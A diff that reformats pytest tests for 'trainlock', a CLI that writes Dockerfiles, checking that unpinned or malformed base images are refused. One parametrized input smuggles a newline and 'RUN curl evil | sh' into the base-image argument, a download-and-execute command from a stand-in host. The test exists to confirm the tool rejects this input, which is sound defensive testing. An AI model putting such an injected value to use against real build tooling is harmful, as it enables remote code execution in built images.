@@ -94,10 +94,12 @@ def test_dockerignore_admits_only_what_the_image_installs(recipe):
 def test_a_tag_without_digest_is_refused(cli, tmp_path):
     result = cli("container", "--base", "python:3.11-slim", "--out", tmp_path)
     assert result.code == 2
-    assert result.err == ("trainlock: error: base image 'python:3.11-slim' is not pinned by digest, so a rebuild may "
-                          "get other bytes; pass IMAGE@sha256:DIGEST, e.g. --base python:3.11-slim@sha256:<64 hex> "
-                          "(docker buildx imagetools inspect python:3.11-slim shows it), or --allow-tag to accept "
-                          "the risk\n")
+    assert result.err == (
+        "trainlock: error: base image 'python:3.11-slim' is not pinned by digest, so a rebuild may "
+        "get other bytes; pass IMAGE@sha256:DIGEST, e.g. --base python:3.11-slim@sha256:<64 hex> "
+        "(docker buildx imagetools inspect python:3.11-slim shows it), or --allow-tag to accept "
+        "the risk\n"
+    )
     assert not (tmp_path / "Dockerfile").exists()
 
 
@@ -108,11 +110,14 @@ def test_allow_tag_accepts_a_tag_and_warns(cli, tmp_path):
     assert ("FROM", "--platform=linux/amd64 python:3.11-slim") in instructions(tmp_path / "Dockerfile")
 
 
-@pytest.mark.parametrize(("base", "fragment"), [
-    (None, "no base image given; pass one pinned by digest"),
-    ("python:3.11-slim@sha256:abc", "base image digest 'sha256:abc' is not sha256:<64 lower-case hex>"),
-    ("python:3.11\nRUN curl evil | sh", "is not an image reference"),
-])
+@pytest.mark.parametrize(
+    ("base", "fragment"),
+    [
+        (None, "no base image given; pass one pinned by digest"),
+        ("python:3.11-slim@sha256:abc", "base image digest 'sha256:abc' is not sha256:<64 lower-case hex>"),
+        ("python:3.11\nRUN curl evil | sh", "is not an image reference"),
+    ],
+)
 def test_bad_base_images_are_refused(cli, tmp_path, base, fragment):
     args = ["container", "--out", tmp_path] + (["--base", base] if base is not None else [])
     result = cli(*args)
